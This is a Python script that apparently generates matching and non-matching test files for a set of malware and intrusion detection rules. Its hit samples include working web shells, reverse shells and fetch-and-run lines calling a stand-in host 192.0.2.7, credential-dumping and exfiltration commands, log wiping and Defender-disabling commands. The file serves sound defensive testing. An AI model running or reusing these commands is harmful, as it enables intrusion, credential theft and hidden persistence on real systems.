#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes one file that each of our rules must hit, and one like it that it must not:
OUT/hit/RULE/NAME and OUT/miss/RULE/NAME. The table is below; nothing here is a real implant."""
import hashlib
import os
import sys

ELF_SO = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x03\0\x3e\0" + b"\0" * 44
ELF_REL = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x01\0\x3e\0" + b"\0" * 44
ELF_EXE = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\0\x3e\0" + b"\0" * 44
ELF_ARM = b"\x7fELF\x01\x01\x01" + b"\0" * 9 + b"\x02\0\x28\0" + b"\0" * 32
PE = b"MZ" + b"\0" * 58 + b"\x40\0\0\0" + b"PE\0\0"


def strings(head, *words):
    return head + b"\0".join(w if isinstance(w, bytes) else w.encode() for w in words) + b"\0"


def wide(text):
    return text.encode("utf-16-le")


UNIT = "[Unit]\nDescription=x\n[Service]\nType=simple\n%s\n[Install]\nWantedBy=multi-user.target\n"
PACKED = "QUJD" * 80

# rule: (name, bytes that hit), (name, bytes that do not)
SAMPLES = {
    "webshell_php_eval_request": (
        ("a.php", "<?php @eval($_POST['k']); ?>"),
        ("a.php", "<?php $n = $_POST['k']; echo htmlspecialchars($n); ?>")),
    "webshell_php_command_request": (
        ("a.php", "<?php echo shell_exec($_GET['c'].' 2>&1'); ?>"),
        ("a.php", "<?php $q = $db->exec('DELETE FROM t'); echo $_GET['c']; ?>")),
    "webshell_php_packed": (
        ("a.php", "<?php eval(gzinflate(base64_decode('%s'))); ?>" % PACKED),
        ("a.php", "<?php $image = base64_decode('%s'); ?>" % PACKED)),
    "webshell_php_upload_anything": (
        ("a.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_GET['to']); ?>"),
        ("a.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], '/srv/in/' . bin2hex(random_bytes(8))); ?>")),
    "webshell_jsp_command_request": (
        ("a.jsp", '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));'
                  " InputStream i = p.getInputStream(); %>"),
        ("a.jsp", '<%@ page import="java.io.*" %><% String q = request.getParameter("query"); out.print(q.length()); %>')),
    "webshell_jsp_class_loader": (
        ("a.jsp", '<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte[] b)'
                  "{return super.defineClass(b,0,b.length);}}%><% String k = request.getReader().readLine(); %>"),
        ("a.jsp", '<%@ page import="java.util.*" %><% Class c = Class.forName("a.B"); request.getReader(); %>')),
    "webshell_aspx_request": (
        ("a.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>'),
        ("a.aspx", '<%@ Page Language="C#"%><% Response.Write(Server.HtmlEncode(Request["k"])); %>')),
    "reverse_shell_dev_tcp": (
        ("x.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"),
        ("x.sh", "#!/bin/bash\nif : < /dev/tcp/127.0.0.1/22; then echo sshd is up; fi\n")),
    "reverse_shell_netcat": (
        ("x.sh", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f\n"),
        ("x.sh", "tar c /srv | nc -q1 192.0.2.7 4444\n")),
    "reverse_shell_script_language": (
        ("x.py", "import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.7\",4444));os.dup2(s.fileno(),0);"
                 "os.dup2(s.fileno(),1);p=subprocess.call([\"/bin/sh\",\"-i\"])\n"),
        ("x.py", "import socket\ns = socket.socket()\ns.connect((\"192.0.2.7\", 80))\ns.send(b'GET / HTTP/1.0')\n")),
    "reverse_shell_in_cron": (
        ("root", "# m h dom mon dow\n*/5 * * * * /bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'\n"),
        ("root", "# m h dom mon dow\n*/5 * * * * /usr/sbin/logrotate /etc/logrotate.conf\n")),
    "reverse_shell_in_unit": (
        ("x.service", UNIT % "ExecStart=/bin/bash -c '/bin/bash -l > /dev/tcp/192.0.2.7/443 0<&1 2>&1'"),
        ("x.service", UNIT % "ExecStart=/usr/sbin/sshd -D")),
    "persistence_cron_fetch_and_run": (
        ("root", "@reboot curl -fsSL http://192.0.2.7/a.sh | bash\n"),
        ("root", "0 3 * * * curl -fsS https://hc.example.org/ping > /dev/null\n")),
    "persistence_unit_from_temporary": (
        ("x.service", UNIT % "ExecStart=/dev/shm/.x/kworker"),
        ("x.service", UNIT % "ExecStart=/usr/lib/systemd/systemd-logind")),
    "persistence_preload_file": (
        ("ld.so.preload", "/dev/shm/libc_cache.so\n"),
        ("ld.so.preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")),
    "persistence_preload_implant": (
        ("libx.so", strings(ELF_SO, "readdir64", "readdir", "__xstat", "dlsym", "/etc/ld.so.preload", "/proc/net/tcp")),
        ("libx.so", strings(ELF_SO, "readdir64", "readdir", "__xstat", "dlsym", "/proc/net/tcp"))),
    "persistence_pam_password_log": (
        ("pam_x.so", strings(ELF_SO, "pam_sm_authenticate", "pam_get_authtok", "/var/log/.cache", "user: %s pass: %s\n")),
        ("pam_x.so", strings(ELF_SO, "pam_sm_authenticate", "pam_get_authtok", "/var/log/btmp", "user %s failed\n"))),
    "persistence_udev_shell": (
        ("9.rules", 'ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/bash -c \'curl http://192.0.2.7/a | bash\'"\n'),
        ("9.rules", 'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/lib/udev/ifupdown-hotplug"\n')),
    "persistence_kernel_module_hides": (
        ("x.ko", strings(ELF_REL, "vermagic=6.1.0", "prepare_creds", "commit_creds", "__x64_sys_getdents64", "kallsyms_lookup_name")),
        ("x.ko", strings(ELF_REL, "vermagic=6.1.0", "prepare_creds", "commit_creds", "nfs4_proc"))),
    "persistence_authorized_key_forced_shell": (
        ("authorized_keys", 'command="/dev/shm/.s/run" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x\n'),
        ("authorized_keys", 'command="/usr/bin/borg serve" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x\n')),
    "tunnel_frp_program": (
        ("svc", strings(ELF_EXE, "github.com/fatedier/frp/client.NewService")),
        ("svc", strings(ELF_EXE, "github.com/prometheus/client_golang"))),
    "tunnel_frp_named_by_advisory": (
        ("SMSvcService.exe", PE),
        ("svchost.exe", PE)),
    "tunnel_frp_configuration": (
        ("frpc.ini", "[common]\nserver_addr = 192.0.2.7\nserver_port = 7000\n[x]\ntype = tcp\nremote_port = 6000\n"),
        ("x.ini", "[common]\nserver_addr = 192.0.2.7\ntimeout = 3\n")),
    "tunnel_earthworm": (
        ("ew", strings(ELF_EXE, "ssocksd", "rcsocks", "rssocks", "lcx_listen", "lcx_tran", "lcx_slave")),
        ("ew", strings(ELF_EXE, "socksd", "rcsocks"))),
    "tunnel_earthworm_command": (
        (".bash_history", "cd /tmp\n./ew -s rssocks -d 192.0.2.7 -e 8888\n./ew -s lcx_listen -l 1080 -e 8888\n"),
        (".bash_history", "ss -s\nnetstat -s -l 1080\n")),
    "tunnel_go_program": (
        ("c", strings(ELF_EXE, "github.com/jpillora/chisel/client.New")),
        ("c", strings(ELF_EXE, "github.com/jpillora/backoff"))),
    "tunnel_regeorg_page": (
        ("t.php", "<?php // x\n header('X-STATUS: OK'); if ($h['X-CMD']=='CONNECT') { $t=$h['X-TARGET']; }"
                  " if ($h['X-CMD']=='FORWARD') {} ?>"),
        ("t.php", "<?php header('X-STATUS: OK'); ?>")),
    "tunnel_ssh_reverse_unattended": (
        ("x.sh", "while :; do ssh -o StrictHostKeyChecking=no -i /tmp/k -fN -R 2222:localhost:22 a@192.0.2.7; done\n"),
        ("x.sh", "ssh -o StrictHostKeyChecking=no backup@192.0.2.7 uptime\n")),
    "tunnel_netsh_portproxy": (
        ("a.bat", "cmd.exe /c netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectport=8443\r\n"),
        ("a.bat", "netsh interface portproxy show all\r\n")),
    "credential_ntds_copy_command": (
        ("a.txt", 'ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\pro" q q\r\n'),
        ("a.txt", 'ntdsutil "roles" "connections" "connect to server dc1" q q q\r\n')),
    "credential_wmic_remote_process": (
        ("a.txt", 'wmic /node:10.0.0.5 /user:x process call create "cmd /c whoami"\r\n'),
        ("a.txt", "wmic process list brief\r\n")),
    "credential_lsass_dump_command": (
        ("a.txt", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full\r\n"),
        ("a.txt", "rundll32.exe shell32.dll,Control_RunDLL\r\n")),
    "credential_registry_hives_command": (
        ("a.evtx", wide("cmd /c reg save hklm\\sam c:\\windows\\temp\\s.dat")),
        ("a.evtx", wide("cmd /c reg query hklm\\sam"))),
    "credential_mimikatz": (
        ("a.txt", "mimikatz # sekurlsa::logonpasswords full\r\n"),
        ("a.txt", "an article that names mimikatz\r\n")),
    "credential_impacket_program": (
        ("w.py", "from impacket.dcerpc.v5 import transport\n# wmiexec\nclass RemoteOperations: pass\n"),
        ("w.py", "import ldap3\n# compares with wmiexec\n")),
    "credential_impacket_trace": (
        ("a.log", "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.123 2>&1\n"),
        ("a.log", "cmd.exe /c whoami > \\\\fs1\\share\\out.txt\n")),
    "credential_psexec_service": (
        ("PSEXESVC.exe", PE + wide("PSEXESVC") + wide("\\\\.\\pipe\\PSEXESVC")),
        ("a.exe", PE + wide("SERVICE"))),
    "credential_shadow_copy_out": (
        ("x.sh", "#!/bin/sh\ncat /etc/shadow | base64 -w0 | curl -d @- http://192.0.2.7/\n"),
        ("x.sh", "#!/bin/sh\nchmod 640 /etc/shadow\n")),
    "credential_linux_memory_tool": (
        ("m.py", "# mimipenguin\nnames = ['gnome-keyring-daemon']\n"),
        ("m.py", "names = ['gnome-keyring-daemon']\n")),
    "lotl_event_log_cleared": (
        ("a.bat", "wevtutil cl security\r\n"),
        ("a.bat", "wevtutil qe security /c:3\r\n")),
    "lotl_directory_export": (
        ("a.bat", "ldifde.exe -f c:\\windows\\temp\\cisco_up.txt -p subtree\r\n"),
        ("a.bat", "ldifde.exe -f d:\\backup\\x.ldf\r\n")),
    "lotl_archive_of_loot": (
        ("a.bat", "7z.exe a -hpSecret1 c:\\windows\\temp\\up.7z c:\\windows\\temp\\ntds.dit\r\n"),
        ("a.bat", "7z.exe a backup.7z d:\\projects\r\n")),
    "lotl_history_disabled": (
        ("x.sh", "unset HISTFILE\ncurl -s http://192.0.2.7/i | sh\n"),
        ("x.sh", "unset HISTFILE\nls\n")),
    "edge_loader_many_architectures": (
        ("x.sh", "cd /tmp\nfor a in mips mipsel armv7l arm; do wget http://192.0.2.7/b.$a; chmod 777 b.$a; ./b.$a; done\n"),
        ("x.sh", "wget http://192.0.2.7/app.x86_64; chmod +x app.x86_64\n")),
    "edge_program_poses_as_kernel_thread": (
        ("b", strings(ELF_EXE, "[kworker/0:1]", "/proc/self/exe", "/proc/%d/cmdline", "killall")),
        ("b", strings(ELF_EXE, "/proc/self/exe", "/proc/%d/cmdline", "killall"))),
    "implant_bpfdoor": (
        ("b", strings(ELF_EXE, "hald-addon-acpi: listening on acpid socket", "qmgr -l -t fifo -u", "pickup -l -t fifo -u")),
        ("b", strings(ELF_EXE, "qmgr -l -t fifo -u"))),
    "implant_named_kernel_rootkit": (
        ("d.ko", strings(ELF_REL, "vermagic=6.1.0-18-amd64", "diamorphine", "hide_module")),
        ("d.ko", strings(ELF_REL, "vermagic=6.1.0-18-amd64", "is_invisible"))),
    "implant_named_preload_rootkit": (
        ("l.so", strings(ELF_SO, "certbotx64", "dlsym", "readdir")),
        ("l.so", strings(ELF_SO, "certbot", "dlsym", "readdir"))),
    "implant_named_ebpf_rootkit": (
        ("e", strings(ELF_EXE, "boopkit", ".BTF")),
        ("e", strings(ELF_EXE, "bpf_probe_write_user", ".BTF"))),
    "implant_sshd_with_hidden_file": (
        ("sshd", strings(ELF_SO, "sshd: no hostkeys available", "PermitRootLogin", "AuthorizedKeysFile", "/usr/include/.gpm")),
        ("sshd", strings(ELF_SO, "sshd: no hostkeys available", "PermitRootLogin", "AuthorizedKeysFile", "/run/sshd"))),
    "implant_memfd_loader_script": (
        ("x.pl", "my $fd = syscall(319, $n, 1);\nopen($o, '>&=', $fd);\nexec {\"/proc/$$/fd/$fd\"} 'kworker';\n"),
        ("x.py", "fd = os.memfd_create('log')\nos.write(fd, b'x')\n")),
    "packed_elf_upx": (
        ("p", strings(ELF_EXE[:64], "UPX!", "$Info: This file is packed with the UPX executable packer http://upx.sf.net $")),
        ("p", strings(ELF_EXE[:0x3c] + b"\x1d\0\x1c\0", "UPX!",
                      "$Info: This file is packed with the UPX executable packer http://upx.sf.net $"))),
    "packed_elf_without_sections": (
        ("p", ELF_EXE + b"".join(hashlib.sha256(b"%d" % i).digest() for i in range(2000))),
        ("p", ELF_EXE + bytes(64000))),
    "edge_mirai_family": (
        ("m", strings(ELF_ARM, "/bin/busybox MIRAI", "/dev/watchdog")),
        ("m", strings(ELF_ARM, "/bin/busybox", "/dev/watchdog"))),
    "edge_router_exploit_string": (
        ("a.log", "203.0.113.9 - - \"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.7/m\"\n"),
        ("a.log", "203.0.113.9 - - \"GET /setup.cgi?next_file=netgear.cfg&todo=show HTTP/1.1\"\n")),
    "edge_cisco_guest_shell": (
        ("r.log", "%SYS-5-CFG: cmd: guestshell run bash\n"),
        ("r.log", "show app-hosting list\nguestshell disable\n")),
    "edge_salt_typhoon_command": (
        ("r.log", "RP/0/RP0: service sshd_operns start\n"),
        ("r.log", "RP/0/RP0: show service sshd\nmonitor capture mycap start\n")),
    "edge_router_implant_paths": (
        ("i", strings(ELF_ARM, "nvram set x=1", "/etc/init.d/rcS", "/proc/self/exe", "SOCKS5")),
        ("i", strings(ELF_ARM, "nvram set x=1", "/proc/self/exe", "SOCKS5"))),
    "bind_shell_command": (
        ("x.sh", "nc -lvp 4444 -e /bin/sh\n"),
        ("x.sh", "nc -l -p 4444 > backup.tar\n")),
    "reverse_shell_powershell": (
        ("a.ps1", "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.7',443);$s = $c.GetStream();"
                  "while(1){$r = (iex $d 2>&1 | Out-String )}\n"),
        ("a.ps1", "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.7',443);$s = $c.GetStream();$s.Close()\n")),
    "reverse_shell_elf_dropper": (
        ("x.sh", "echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d > /dev/shm/.k; chmod +x /dev/shm/.k\n"),
        ("x.sh", "echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d | file -\n")),
    "webshell_php_session_key": (
        ("s.php", "<?php session_start(); $k='e45e329feb5d925b'; $_SESSION['k']=$k; $p=file_get_contents('php://input');"
                  "$p=openssl_decrypt($p,'AES128',$k); eval($p); ?>"),
        ("s.php", "<?php session_start(); $_SESSION['k'] = 1; $p = openssl_decrypt($cookie, 'AES128', $key); ?>")),
    "webshell_php_callback": (
        ("s.php", "<?php array_map('assert', $_POST['x']); ?>"),
        ("s.php", "<?php $n = array_map('trim', $_POST['names']); ?>")),
    "webshell_jsp_processbuilder": (
        ("s.jsp", '<% new java.lang.ProcessBuilder(new String[]{"sh","-c",request.getParameter("c")}).start(); %>'),
        ("s.jsp", '<% String c = request.getParameter("c"); out.print(c.length()); %>')),
    "webshell_aspx_process": (
        ("s.aspx", '<%@ Page Language="C#" %><% var i = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]); Process.Start(i); %>'),
        ("s.aspx", '<%@ Page Language="C#" %><% Response.Write(Request["c"].Length); %>')),
    "webshell_aspx_assembly": (
        ("s.aspx", '<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength))'
                   '.CreateInstance("U").Equals(this); %>'),
        ("s.aspx", '<%@ Page Language="C#" %><% Request.BinaryRead(10); %>')),
    "webshell_dropper_command": (
        ("h.log", "echo PD9waHAgZXZhbCgkX1BPU1RbJ2snXSk7Pz4= | base64 -d > /var/www/html/css/a.php\n"),
        ("h.log", "echo PD9waHAgcGhwaW5mbygpOz8+ | base64 -d\n")),
    "persistence_profile_fetch_and_run": (
        (".bashrc", "alias ll='ls -l'\ncurl -s http://192.0.2.7/i | bash >/dev/null 2>&1\n"),
        (".bashrc", "alias ll='ls -l'\n# curl -s https://sh.example/i | bash > /dev/null installs it\n")),
    "persistence_init_script_from_temporary": (
        ("rc.local", "#!/bin/sh\n/var/tmp/.x/agent &\nexit 0\n"),
        ("rc.local", "#!/bin/sh\nTMPDIR=/var/tmp\n/usr/bin/agent &\nexit 0\n")),
    "persistence_apt_hook": (
        ("99x", 'APT::Update::Pre-Invoke {"curl -s http://192.0.2.7/i | sh";};\n'),
        ("99x", 'APT::Update::Post-Invoke {"rm -f /var/cache/apt/archives/*.deb || true";};\n')),
    "persistence_authorized_keys_from_script": (
        ("x.sh", "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDExampleExampleExampleExample x' >> /root/.ssh/authorized_keys\n"
                 "chattr +i /root/.ssh/authorized_keys\n"),
        ("x.sh", "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDExampleExampleExampleExample x' >> /root/.ssh/authorized_keys\n")),
    "persistence_systemd_preload": (
        ("x.service", UNIT % "Environment=LD_PRELOAD=/dev/shm/libx.so\nExecStart=/usr/sbin/sshd -D"),
        ("x.service", UNIT % "Environment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\nExecStart=/usr/bin/redis-server")),
    "tunnel_ngrok": (
        ("h", "ngrok tcp 22 --authtoken x\n"),
        ("h", "an article about ngrok\n")),
    "tunnel_cloudflared_token": (
        ("h", "cloudflared tunnel run --token eyJhIjoiMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWYifQ\n"),
        ("h", "cloudflared tunnel list\n")),
    "tunnel_dns": (
        ("h", "./dnscat2 --dns server=192.0.2.7,port=53 --secret=x\n"),
        ("h", "apt install iodine\n")),
    "tunnel_nps_client": (
        ("h", "./npc -server=192.0.2.7:8024 -vkey=abcdefgh -type=tcp\n"),
        ("h", "npc --help\n")),
    "tunnel_plink_reverse": (
        ("a.bat", "echo y | plink.exe -N -R 192.0.2.7:4444:127.0.0.1:3389 -pw x u@192.0.2.7\r\n"),
        ("a.bat", "plink.exe -batch build@git ls\r\n")),
    "tunnel_3proxy_configuration": (
        ("3proxy.cfg", "daemon\nauth none\nallow *\nsocks -p1080\n"),
        ("3proxy.cfg", "daemon\nauth strong\nusers a:CL:b\nsocks -p1080\n")),
    "tunnel_socat_relay": (
        ("h", "socat TCP-LISTEN:8443,fork,reuseaddr TCP:192.0.2.7:443 &\n"),
        ("h", "socat - UNIX-CONNECT:/run/x.sock\n")),
    "tunnel_softether_renamed": (
        ("conhost.exe", PE + wide("SoftEther VPN Bridge")),
        ("vpnbridge.exe", PE + wide("SoftEther VPN Bridge"))),
    "tunnel_softether_command": (
        ("a.log", 'cmd /c sc create SysMon binpath= "C:\\Windows\\System32\\conhost.exe /service"\r\n'),
        ("a.log", 'cmd /c sc create Backup binpath= "C:\\Backup\\agent.exe --service"\r\n')),
    "tunnel_ssf": (
        ("h", "./ssf -F 9000 -c config.json -p 443 192.0.2.7\n"),
        ("h", "ssf --version\n")),
    "credential_ntlm_dump": (
        ("d.txt", "".join("CORP\\u%d:110%d:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::\n" % (i, i)
                          for i in range(3))),
        ("d.txt", "u:1101:aad3b435b51404eeaad3b435b51404ee:\n")),
    "credential_kerberoast_output": (
        ("t.txt", "$krb5tgs$23$*svc$CORP.LOCAL$http/web*$" + "0a" * 16 + "$" + "1b" * 200 + "\n"),
        ("t.txt", "$krb5tgs$23$ is the format of hashcat's mode 13100\n")),
    "credential_rubeus_command": (
        ("a.evtx", wide("Rubeus.exe kerberoast /outfile:h.txt")),
        ("a.evtx", wide("kerberoast /outfile:h.txt is what to look for"))),
    "credential_wdigest_on": (
        ("a.log", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f\r\n"),
        ("a.log", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f\r\n")),
    "credential_shadow_elsewhere": (
        ("s.txt", "root:$6$saltsalt$" + "a" * 86 + ":19000:0:99999:7:::\n"),
        ("shadow", "root:$6$saltsalt$" + "a" * 86 + ":19000:0:99999:7:::\n")),
    "credential_key_harvest_script": (
        ("x.sh", "#!/bin/sh\ntar czf /tmp/k.tgz /home/*/.ssh\ncp /root/.ssh/id_rsa /tmp/k\ncurl -F f=@/tmp/k.tgz http://192.0.2.7/\n"),
        ("x.sh", "#!/bin/sh\ncp /root/.ssh/id_rsa /backup/\n")),
    "lotl_logon_log_query": (
        ("a.log", 'wevtutil qe security /rd:true /f:text /q:*[System[(EventID=4624)]] /c:20\r\n'),
        ("a.log", "wevtutil qe system /c:20\r\n")),
    "lotl_download_by_system_tool": (
        ("a.log", "certutil.exe -urlcache -split -f http://192.0.2.7/a.exe c:\\windows\\temp\\a.exe\r\n"),
        ("a.log", "certutil.exe -hashfile a.exe SHA256\r\n")),
    "lotl_powershell_download": (
        ("a.log", "powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\r\n"),
        ("a.log", "powershell (New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a', 'a')\r\n")),
    "lotl_powershell_hidden_encoded": (
        ("a.evtx", wide("powershell.exe -nop -w hidden -enc " + "SQBFAFgA" * 20)),
        ("a.evtx", wide("powershell.exe -nop -enc SQBFAFgA"))),
    "lotl_defender_off": (
        ("a.log", "powershell Set-MpPreference -DisableRealtimeMonitoring $true\r\n"),
        ("a.log", "powershell Set-MpPreference -DisableRealtimeMonitoring $false\r\n")),
    "lotl_scheduled_task_from_temporary": (
        ("a.log", 'schtasks /create /tn Upd /tr "C:\\Windows\\Temp\\u.exe" /sc minute /ru SYSTEM\r\n'),
        ("a.log", 'schtasks /create /tn Upd /tr "C:\\Program Files\\U\\u.exe" /sc daily /ru SYSTEM\r\n')),
    "lotl_shadow_copies_deleted": (
        ("a.log", "vssadmin delete shadows /all /quiet\r\n"),
        ("a.log", "vssadmin list shadows\r\n")),
    "lotl_linux_log_wiped": (
        ("h", "cat /dev/null > /var/log/wtmp\ncat /dev/null > /var/log/auth.log\n"),
        ("h", "cat /dev/null > /var/log/app.log\n: > /var/log/nginx/access.log\n")),
    "lotl_linux_time_stamp_copied": (
        ("x.sh", "touch -r /bin/ls /usr/bin/.x\nchattr +i /usr/bin/.x\n"),
        ("x.sh", "touch -r /etc/motd /tmp/stamp\n")),
    "miner_configuration": (
        ("config.json", '{"pools": [{"url": "stratum+tcp://pool.example:3333"}], "donate-level": 1}\n'),
        ("config.json", '{"url": "stratum+tcp://pool.example:3333"}\n')),
}


def main():
    out = sys.argv[1]
    for rule, pair in SAMPLES.items():
        for kind, (name, data) in zip(("hit", "miss"), pair):
            folder = os.path.join(out, kind, rule)
            os.makedirs(folder)
            with open(os.path.join(folder, name), "wb") as f:
                f.write(data if isinstance(data, bytes) else data.encode())


main()
